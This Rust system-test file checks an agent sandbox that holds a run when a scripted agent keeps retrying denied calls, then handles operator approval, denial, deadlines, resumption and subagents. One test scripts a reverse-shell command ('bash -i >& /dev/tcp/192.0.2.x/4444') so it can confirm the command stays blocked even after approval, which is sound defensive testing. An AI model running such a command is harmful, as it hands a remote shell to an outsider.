//! An agent that insists on denied calls: the run is held, the operator hears of it and answers, at once, late, or never.

use serde_json::{Value, json};
use std::{fs, path::PathBuf};
use system_tests::{
    Started, User,
    aftermath::{bash, step},
    is_event,
};

/// What the operator forbids in these tests; a person can lift it for one call.
const FORBIDDEN: [&str; 2] = ["--set", "gate.deny=[\"Bash(tee:*)\"]"];

/// A call that is denied; if it ran, its line would be in `log.txt`.
fn denied(line: &str) -> Vec<(&'static str, Value)> {
    bash(&denied_command(line))
}

fn denied_command(line: &str) -> String {
    format!("echo {line} | tee -a log.txt")
}

struct Scene {
    user: User,
    task: PathBuf,
    conversation: PathBuf,
}

impl Scene {
    fn new(turns: &[Vec<(&str, Value)>]) -> Self {
        let user = User::new();
        let task = user.task("Write a log.");
        let conversation = user.conversation(turns);
        Self { user, task, conversation }
    }

    /// The agent insists: the third denied call in a row is one too many.
    fn insisting() -> Self {
        Self::new(&[step("one"), denied("a"), denied("b"), denied("c"), step("five")])
    }

    /// A subagent insists. Its conversation is told by a word of its prompt.
    fn insisting_subagent() -> Self {
        let turn = |calls: &[(&str, Value)]| {
            let tools: Vec<_> = calls.iter().map(|(name, input)| json!({"name": name, "input": input})).collect();
            json!({"text": "Next.", "tools": tools})
        };
        let agent = (
            "Agent",
            json!({"description": "sub", "prompt": "INSIST on it", "subagent_type": "general-purpose", "run_in_background": false}),
        );
        let main = [turn(&step("one")), turn(&[agent]), turn(&step("five")), json!({"text": "Done."})];
        let sub = [
            turn(&denied("a")),
            turn(&denied("b")),
            turn(&denied("c")),
            turn(&step("sub")),
            json!({"text": "Sub done."}),
        ];
        let script = json!({"version": 1, "turns": main, "conversations": [{"opening": "INSIST on it", "turns": sub}]});
        let user = User::new();
        let task = user.task("Write a log.");
        let conversation = user.file("conversation.json", &script.to_string());
        Self { user, task, conversation }
    }

    fn start(&self, more: &[&str]) -> Started {
        let args: Vec<_> = FORBIDDEN.iter().chain(more).copied().collect();
        self.user.start_task(&self.task, &self.conversation, &args)
    }

    /// Starts the run and waits until a call is held; gives the id of the question.
    fn held(&self, more: &[&str]) -> (Started, String) {
        let started = self.start(more);
        let held = started.wait_for("held call", |event| is_event(event, "held"));
        assert_eq!(held["call"]["input"]["command"], denied_command("c").as_str(), "{held:#}");
        (started, held["ask"].as_str().expect("id").to_owned())
    }

    /// Runs until the process has ended with the run parked; gives the id of the question.
    fn parked(&self, more: &[&str]) -> String {
        let (started, ask) = self.held(more);
        let ran = started.finish().expect_code(104);
        let done = ran.events().into_iter().rfind(|event| is_event(event, "done")).expect("done");
        assert_eq!(done["result"]["status"], "waiting", "{done:#}");
        let hint = done["result"]["hint"].as_str().expect("hint").to_owned();
        assert!(hint.contains("sandbox resume"), "{hint}");
        assert!(!self.is_running(), "the container does not run on");
        ask
    }

    fn is_running(&self) -> bool {
        let inspect = ["inspect", "--format", "{{.State.Running}}", &self.user.agent_container()];
        let output = self.user.docker(&inspect).output().expect("docker");
        assert!(output.status.success(), "the container is kept");
        String::from_utf8_lossy(&output.stdout).trim() == "true"
    }

    fn transcript(&self) -> String {
        fs::read_to_string(self.user.attempt().join("transcript.jsonl")).expect("transcript")
    }
}

#[test]
fn an_agent_that_insists_is_held_and_goes_on_after_an_approval() {
    let scene = Scene::insisting();
    let out = scene.user.home().join("told");
    let notify = format!("notify.command=echo \"$SANDBOX_ASK $SANDBOX_REASON\" >> {}", out.display());
    let (started, ask) = scene.held(&["--set", &notify]);
    assert!(scene.user.run(&["ps", "--json"]).expect_code(0).stdout.contains("\"waiting\""));
    assert_eq!(scene.user.logged_inside(), ["one"]);
    let _ = scene.user.run(&["approve", &ask]).expect_code(0);
    let _ = started.finish().expect_code(0);
    let result = scene.user.assert_ended("passed", &["one", "c", "five"]);
    assert_eq!((&result["gate"]["denied"], &result["gate"]["asked"]), (&2.into(), &1.into()), "{result:#}");
    let told = fs::read_to_string(out).expect("the operator was told");
    assert!(told.starts_with(&ask) && told.lines().count() == 1 && told.contains("3 denials in a row"), "{told}");
    assert!(!scene.transcript().contains("denials in a row"), "the agent is not told the thresholds");
}

#[test]
fn after_a_denial_with_a_reason_it_goes_on_another_way() {
    let scene = Scene::insisting();
    let (started, ask) = scene.held(&[]);
    let _ = scene.user.run(&["deny", &ask, "--reason", "use plain redirection"]).expect_code(0);
    let _ = started.finish().expect_code(0);
    scene.user.assert_ended("passed", &["one", "five"]);
    assert!(scene.transcript().contains("use plain redirection"));
}

#[test]
fn what_no_one_can_lift_stays_denied_and_the_run_goes_on() {
    let hard = |n| bash(&format!("bash -i >& /dev/tcp/192.0.2.{n}/4444 0>&1; echo {n} >> log.txt"));
    let scene = Scene::new(&[step("one"), hard(1), hard(2), hard(3), step("five")]);
    let started = scene.start(&[]);
    let held = started.wait_for("held call", |event| is_event(event, "held"));
    let _ = scene.user.run(&["approve", held["ask"].as_str().expect("id")]).expect_code(0);
    let _ = started.finish().expect_code(0);
    scene.user.assert_ended("passed", &["one", "five"]);
}

#[test]
fn an_approval_after_the_grace_resumes_the_conversation_and_the_call_runs_once() {
    let scene = Scene::insisting();
    let ask = scene.parked(&["--set", "limits.approval-grace=2s"]);
    assert_eq!(scene.user.logged(), ["one"], "the work so far was read");
    let swept = scene.user.run(&["gc", "--json"]).expect_code(0).stdout;
    assert!(swept.contains(&scene.user.agent_container()) && swept.contains("\"removed\":[]"), "{swept}");
    let early = scene.user.run(&["resume", &scene.user.run_id()]).expect_code(104);
    assert!(early.stderr.contains(&ask), "{}", early.stderr);
    let approved = scene.user.run(&["approve", &ask]).expect_code(0);
    assert!(approved.stderr.contains("sandbox resume"), "{}", approved.stderr);
    let _ = scene.user.run(&["approve", &ask]).expect_code(2);
    let _ = scene.user.run(&["resume", "--format", "jsonl"]).expect_code(0);
    let result = scene.user.assert_ended("passed", &["one", "c", "five"]);
    assert_eq!((&result["gate"]["asked"], &result["gate"]["bypassed"]), (&1.into(), &0.into()), "{result:#}");
    let _ = scene.user.run(&["audit", "verify", &scene.user.run_id()]).expect_code(0);
}

#[test]
fn an_approved_call_runs_in_the_directory_in_which_it_was_asked_about() {
    let moved = bash("mkdir -p sub && cd sub && echo one >> ../log.txt");
    let there = bash("test \"$(basename \"$PWD\")\" = sub && echo there | tee -a ../log.txt");
    let scene = Scene::new(&[moved, denied("a"), denied("b"), there, bash("echo five >> ../log.txt")]);
    let started = scene.start(&["--set", "limits.approval-grace=2s"]);
    let held = started.wait_for("held call", |event| is_event(event, "held"));
    assert_eq!(held["call"]["cwd"], "/workspace/sub", "{held:#}");
    let _ = started.finish().expect_code(104);
    let approve = ["approve", held["ask"].as_str().expect("id"), "--resume", "--json"];
    let _ = scene.user.run(&approve).expect_code(0);
    scene.user.assert_ended("passed", &["one", "there", "five"]);
}

#[test]
fn of_the_calls_of_one_turn_one_is_saved_and_the_others_are_to_be_made_again() {
    let both = vec![denied("c").remove(0), step("beside").remove(0)];
    let scene = Scene::new(&[step("one"), denied("a"), denied("b"), both, step("five")]);
    let ask = scene.parked(&["--set", "limits.approval-grace=2s"]);
    let _ = scene.user.run(&["approve", &ask, "--resume", "--json"]).expect_code(0);
    let result = scene.user.assert_ended("passed", &["one", "c", "five"]);
    assert_eq!(result["gate"]["bypassed"], 0, "{result:#}");
    assert!(scene.transcript().contains("waits_for_person"));
}

#[test]
fn a_parked_run_goes_on_without_its_container() {
    let scene = Scene::insisting();
    let ask = scene.parked(&["--set", "limits.approval-grace=2s"]);
    let removed = scene.user.docker(&["rm", &scene.user.agent_container()]).output().expect("docker");
    assert!(removed.status.success());
    let _ = scene.user.run(&["approve", &ask, "--resume", "--json"]).expect_code(0);
    scene.user.assert_ended("passed", &["one", "c", "five"]);
}

#[test]
fn a_denial_after_the_grace_resumes_the_conversation_another_way() {
    let scene = Scene::insisting();
    let ask = scene.parked(&["--set", "limits.approval-grace=2s"]);
    let denied = ["deny", &ask, "--reason", "use plain redirection", "--resume", "--json"];
    let _ = scene.user.run(&denied).expect_code(0);
    scene.user.assert_ended("passed", &["one", "five"]);
    assert!(scene.transcript().contains("use plain redirection"));
}

#[test]
fn after_the_deadline_the_run_ends_waiting_and_can_be_resumed() {
    let scene = Scene::insisting();
    let ask = scene.parked(&["--set", "limits.approval-deadline=2s"]);
    let late = scene.user.run(&["approve", &ask]).expect_code(2);
    assert!(late.stderr.contains(&ask), "{}", late.stderr);
    let _ = scene.user.run(&["resume"]).expect_code(0);
    scene.user.assert_ended("passed", &["one", "five"]);
    assert!(scene.transcript().contains("no one answered in time"));
}

#[test]
fn a_process_killed_while_it_parks_or_resumes_loses_nothing_and_runs_nothing_twice() {
    let scene = Scene::insisting();
    let (started, ask) = scene.held(&["--set", "limits.approval-grace=2s"]);
    let is_saved = |event: &Value| {
        is_event(event, "notice") && event["text"].as_str().is_some_and(|text| text.contains("session is saved"))
    };
    let _ = started.wait_for("deferral", is_saved);
    started.kill();
    let _ = scene.user.run(&["resume"]).expect_code(104);
    assert!(!scene.is_running());
    let _ = scene.user.run(&["approve", &ask]).expect_code(0);
    let resumed = scene.user.start(&["resume", "--format", "jsonl"]);
    let _ = resumed.wait_for("channel", |event| is_event(event, "step") && event["name"] == "channel");
    resumed.kill();
    let again = scene.user.start(&["resume", "--format", "jsonl"]);
    let _ = again.wait_for("held call", |event| is_event(event, "held"));
    again.kill();
    let _ = scene.user.run(&["resume"]).expect_code(0);
    scene.user.assert_ended("passed", &["one", "c", "five"]);
}

#[test]
fn a_parked_run_that_is_cancelled_is_harvested_and_removed() {
    let scene = Scene::insisting();
    let _ask = scene.parked(&["--set", "limits.approval-grace=2s"]);
    let _ = scene.user.run(&["cancel", &scene.user.run_id()]).expect_code(0);
    let _ = scene.user.run(&["resume"]).expect_code(130);
    scene.user.assert_ended("interrupted", &["one"]);
}

#[test]
fn a_subagent_that_insists_holds_the_run() {
    let scene = Scene::insisting_subagent();
    let (started, ask) = scene.held(&[]);
    let _ = scene.user.run(&["approve", &ask]).expect_code(0);
    let _ = started.finish().expect_code(0);
    scene.user.assert_ended("passed", &["one", "c", "sub", "five"]);
}

#[test]
fn past_the_grace_a_subagent_is_denied_and_the_next_call_of_the_main_thread_waits() {
    let scene = Scene::insisting_subagent();
    let (started, _) = scene.held(&["--set", "limits.approval-grace=2s"]);
    let five = started
        .wait_for("call of the main thread", |event| is_event(event, "held") && event["call"]["subagent"].is_null());
    let _ = started.finish().expect_code(104);
    assert_eq!(scene.user.logged(), ["one"], "nothing of the run ran while it was held");
    assert!(scene.transcript().contains("waits_for_person"));
    let _ = scene.user.run(&["approve", five["ask"].as_str().expect("id"), "--resume", "--json"]).expect_code(0);
    scene.user.assert_ended("passed", &["one", "five"]);
}
